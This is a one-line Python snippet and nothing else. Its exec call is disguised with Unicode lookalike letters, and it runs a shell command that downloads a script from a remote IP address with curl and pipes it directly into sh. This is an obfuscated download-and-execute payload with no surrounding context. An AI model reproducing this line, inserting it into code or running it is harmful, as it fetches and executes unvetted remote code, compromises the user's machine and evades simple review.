𝚎𝚡𝚎𝚌("import os; os.system('curl -s http://203.0.113.9/i | sh')")
